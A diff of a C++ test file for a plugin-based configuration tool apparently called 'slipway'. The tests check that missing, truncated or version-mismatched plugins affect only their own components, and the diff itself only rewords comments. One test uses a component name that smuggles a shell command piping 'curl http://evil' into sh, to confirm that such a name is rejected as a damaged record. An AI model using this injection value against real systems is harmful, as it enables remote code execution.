@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// A plugin that is gone, or that cannot be read, keeps its own component from being looked at, and no other.
+// A plugin that is missing or unreadable stops the check of its own component, and of no other.
 #include <slipway/json.hpp>
 
 #include "tests/component/engine/installed.hpp"
@@ -16,7 +16,7 @@ using ::testing::AllOf;
 using ::testing::HasSubstr;
 using ::testing::Not;
 
-/// A root with components of two plugins, and a slipway of its own whose plugins can go.
+/// A root with components of two plugins, and a slipway whose plugins can be removed.
 class MissingPlugin : public ::testing::Test {
  protected:
   MissingPlugin() {
@@ -27,7 +27,7 @@ class MissingPlugin : public ::testing::Test {
     EXPECT_EQ(applied.code, 0) << applied.out << applied.err;
   }
   void lose(const std::string& plugin) const { fs::remove(fs::path(host.plugins) / plugin); }
-  /// What a boot of the machine has to put right.
+  /// Damage that the next boot has to repair.
   void take_the_bystanders_file() const { fs::remove(host.path("etc/bystander")); }
   Ran boot() const { return host.slipway({"apply", "--boot"}); }
 
@@ -36,7 +36,7 @@ class MissingPlugin : public ::testing::Test {
   ScratchHost host;
 };
 
-// A boot stopped at the first line: no component of the machine was looked at.
+// Earlier a boot stopped at the first line: no component of the machine was checked.
 TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersGoOn) {
   lose("guest.so");
   take_the_bystanders_file();
@@ -65,7 +65,7 @@ TEST_F(MissingPlugin, IsSaidByEachCommandThatLooks) {
               AllOf(HasSubstr("no installed plugin has the component guest"), Not(HasSubstr("is left to do"))));
 }
 
-// Only the plugin can look at an action of its own: without it, verify and doctor ended before the first finding.
+// Only the plugin can check its own action: earlier verify and doctor ended before the first finding.
 TEST_F(MissingPlugin, WithAnActionOfItsOwnKeepsNoOtherFromBeingVerified) {
   host.live = true;  // an image leaves such an action to its boot
   host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
@@ -85,10 +85,10 @@ TEST_F(MissingPlugin, OrOneThatWasCutOffKeepsNoOtherFromBeingVerified) {
   host.live = true;
   host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
-  // Under the sanitizer the crash has to reach the engine as a signal.
+  // With the sanitizer too, the crash must reach the engine as a signal.
   ::setenv("ASAN_OPTIONS", "handle_segv=0:handle_sigbus=0:detect_leaks=0", 1);
   const fs::path plugin = fs::path(host.plugins) / "probe.so";
-  fs::resize_file(plugin, 65536);  // its manifest is whole, and the loader reads past the end
+  fs::resize_file(plugin, 65536);  // its manifest is complete, and the loader reads past the end
   for (const std::string command : {"verify", "doctor"}) {
     const Ran ran = host.slipway({command});
     EXPECT_EQ(ran.code, 1) << ran.out << ran.err;
@@ -126,7 +126,7 @@ TEST_F(MissingPlugin, ThatComesBackIsAsIfItHadNeverGone) {
   EXPECT_EQ(host.tree(), before);
 }
 
-// What the missing one provided is not known: those that require it wait for it, and are no mistake of the spec.
+// The missing component's outputs are unknown: components that require it wait for it, and the spec is not wrong.
 TEST_F(MissingPlugin, BlocksThoseThatRequireIt) {
   lose("probe.so");
   const Ran booted = boot();
@@ -143,7 +143,7 @@ TEST_F(MissingPlugin, ThatCannotBeReadIsNamedByItsFile) {
   EXPECT_EQ(host.slipway({"verify", "probe"}).code, 0);
 }
 
-// The section that an older plugin was applied with is that component's matter as well.
+// The section for an older plugin is that component's problem too.
 TEST_F(MissingPlugin, OrOneOfAnotherVersionThatDoesNotTakeTheSection) {
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
   generation["spec"]["spec"]["components"]["guest"]["formerly_known"] = "x";
@@ -157,7 +157,7 @@ TEST_F(MissingPlugin, OrOneOfAnotherVersionThatDoesNotTakeTheSection) {
               AllOf(HasSubstr("unknown key 'formerly_known' in guest"), HasSubstr("install guest 0.0.9 again")));
 }
 
-// A component that was never applied here is a misspelt name, as ever.
+// A component that was never applied here is still a misspelt name.
 TEST_F(MissingPlugin, IsNoExcuseForAnUnknownName) {
   lose("guest.so");
   host.spec(spec + "    bystandr: {}\n");
@@ -166,7 +166,7 @@ TEST_F(MissingPlugin, IsNoExcuseForAnUnknownName) {
   EXPECT_THAT(plan.err, HasSubstr("unknown component 'bystandr'; did you mean 'bystander'?"));
 }
 
-// Whoever made a root could put a command into the one that root is told to type.
+// Earlier the creator of a root could put a command into the one that root is told to type.
 TEST_F(MissingPlugin, OfWhatIsNoNameIsADamagedRecord) {
   const std::string name = "x`; curl http://evil|sh #";
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
@@ -180,7 +180,7 @@ TEST_F(MissingPlugin, OfWhatIsNoNameIsADamagedRecord) {
   }
 }
 
-// Removing it does without its plugin, and the others' sections are kept.
+// Removal works without its plugin, and the others' sections are kept.
 TEST_F(MissingPlugin, CanBeGivenUp) {
   lose("guest.so");
   const Ran removed = host.slipway({"remove", "guest", "--yes"});
